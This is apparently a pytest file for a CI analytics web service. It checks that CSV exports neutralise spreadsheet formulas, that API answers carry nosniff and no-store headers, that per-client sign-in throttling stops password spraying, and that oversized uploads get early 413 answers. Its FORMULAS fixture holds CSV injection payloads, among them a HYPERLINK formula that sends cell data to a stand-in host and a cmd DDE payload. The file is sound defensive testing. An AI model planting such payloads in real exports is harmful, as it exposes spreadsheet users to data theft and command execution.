"""Smaller security findings: CSV injection, headers on data, a per-client sign-in limit,
and an early answer (413) that clients which send before they read can see."""

from __future__ import annotations

import csv
import io
import socket
import urllib.error
import urllib.request

import pytest
from starlette.testclient import TestClient

from cipulse.accounts.service import AccountService
from cipulse.accounts.throttle import CLIENT_FAILURES, FailureThrottle, SignInThrottle
from cipulse.accounts.users import UserService
from cipulse.settings import Settings
from cipulse.web.csv_export import neutralised
from tests.builders import runwatch_job, runwatch_run
from tests.conftest import Tenant, make_tenant
from tests.servers import threaded_server
from tests.test_dashboard import PASSWORD, sign_in

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def reader(accounts: AccountService, tenant: Tenant) -> dict[str, str]:
    return {"X-API-Key": accounts.create_key(tenant.name, scopes=("read",)).key}


def test_csv_cells_that_would_run_as_formulas_are_quoted(
    client: TestClient, tenant: Tenant, reader: dict[str, str]
) -> None:
    jobs = [runwatch_job(name, duration_seconds=60) for name in [*FORMULAS, "build"]]
    stored = client.post(
        "/functions/v1/ingest",
        json=runwatch_run(jobs=jobs, pipeline_name="=1+2"),
        headers=tenant.runwatch_headers,
    )
    assert stored.status_code == 200
    query = "since=2024-01-01T00:00:00Z&until=2024-02-01T00:00:00Z&format=csv"
    answer = client.get(f"/api/v1/analytics/jobs?{query}", headers=reader)
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert sorted(row["job"] for row in rows) == sorted(
        ["build", *("'" + formula for formula in FORMULAS)]
    )
    assert {row["pipeline"] for row in rows} == {"'=1+2"}
    runs = client.get(f"/api/v1/runs?{query}", headers=reader)
    assert "'=1+2" in runs.text and "\n=1+2" not in runs.text


def test_numbers_stay_numbers_in_csv() -> None:
    assert [neutralised(value) for value in (-3, -0.5, 0, None, "a-b", "")] == [
        -3,
        -0.5,
        0,
        None,
        "a-b",
        "",
    ]


def test_api_and_csv_answers_are_not_sniffed_nor_cached(
    client: TestClient, reader: dict[str, str]
) -> None:
    data = [
        client.get("/api/v1/runs", headers=reader),
        client.get("/api/v1/runs?format=csv", headers=reader),
        client.get("/api/v1/runs"),  # a 401, in JSON
        client.get("/healthz"),
        client.get("/openapi.json"),
    ]
    for answer in data:
        assert answer.headers["x-content-type-options"] == "nosniff", answer.url
        assert answer.headers["cache-control"] == "no-store", answer.url
    # Static files keep being cached (tests/test_compression_and_caching.py): without the
    # content hash in its URL, a file is revalidated, never "no-store".
    asset = client.get("/static/app.css")
    assert asset.status_code == 200 and asset.headers["cache-control"] == "no-cache"


def test_one_client_address_may_not_spray_passwords_over_many_emails(
    client: TestClient, tenant: Tenant, database_url: str, settings: Settings
) -> None:
    from cipulse.storage.database import Database

    database = Database(settings)
    UserService(database).create_user("ada@example.com", tenant.name, PASSWORD)
    database.dispose()
    limit = 3
    client.app.state.sign_in_throttle = SignInThrottle(  # type: ignore[attr-defined]
        per_client=FailureThrottle(limit=limit)
    )
    for number in range(limit):  # one guess per email: the per-email limit never trips
        assert sign_in(client, f"user{number}@example.com", "Winter2024!").status_code == 401
    refused = sign_in(client, "ada@example.com")  # even the right password, from here
    assert refused.status_code == 429
    assert int(refused.headers["retry-after"]) > 0
    assert "Too many failed sign-ins from your address" in refused.text


def test_the_client_limit_outlasts_a_successful_sign_in() -> None:
    now = [0.0]
    throttle = SignInThrottle(
        FailureThrottle(clock=lambda: now[0]),
        FailureThrottle(limit=CLIENT_FAILURES, clock=lambda: now[0]),
    )
    for number in range(CLIENT_FAILURES - 1):
        throttle.failed(f"user{number}@example.com", "192.0.2.7")
    throttle.succeeded("user0@example.com")
    assert throttle.wait_seconds("user0@example.com", "192.0.2.7") == (0.0, "email")
    throttle.failed("user0@example.com", "192.0.2.7")
    assert throttle.wait_seconds("anyone@example.com", "192.0.2.7") == (15 * 60, "client")
    assert throttle.wait_seconds("anyone@example.com", "198.51.100.1") == (0.0, "email")
    now[0] = 15 * 60
    assert throttle.wait_seconds("anyone@example.com", "192.0.2.7") == (0.0, "email")


def _post_all_then_read(url: str, size: int, headers: dict[str, str]) -> int | str:
    """POST with Python's urllib, which sends the whole body before it reads the answer."""
    request = urllib.request.Request(url, data=b"x" * size, headers=headers)
    try:
        with urllib.request.urlopen(request, timeout=60) as answer:
            return int(answer.status)
    except urllib.error.HTTPError as error:
        return int(error.code)
    except OSError as error:  # connection reset, broken pipe
        return type(error).__name__


def test_an_early_answer_reaches_clients_that_send_before_they_read(
    settings: Settings, accounts: AccountService
) -> None:
    tenant = make_tenant(accounts, "acme")
    with threaded_server(settings) as base:
        url = f"{base}/functions/v1/ingest"
        key = {"X-API-Key": tenant.key, "Content-Type": "application/json"}
        answers = [_post_all_then_read(url, 2_000_000, key) for _ in range(5)]
        answers += [_post_all_then_read(url, 50_000_000, key) for _ in range(2)]
        answers += [_post_all_then_read(url, 2_000_000, {"Content-Type": "application/json"})]
    assert answers == [413] * 7 + [401]


def test_a_body_beyond_the_drain_bound_gets_its_answer_and_a_closed_connection(
    settings: Settings,
) -> None:
    with threaded_server(settings.model_copy(update={"body_drain_bytes": 1 << 20})) as base:
        host, port = base.removeprefix("http://").split(":")
        with socket.create_connection((host, int(port)), timeout=20) as sock:
            sock.sendall(
                b"POST /functions/v1/ingest HTTP/1.1\r\nHost: x\r\nX-API-Key: k\r\n"
                b"Content-Type: application/json\r\nContent-Length: 8000000\r\n\r\n"
            )
            head = sock.recv(65536).split(b"\r\n\r\n")[0].lower()
    assert head.startswith(b"http/1.1 413")
    assert b"connection: close" in head.split(b"\r\n")
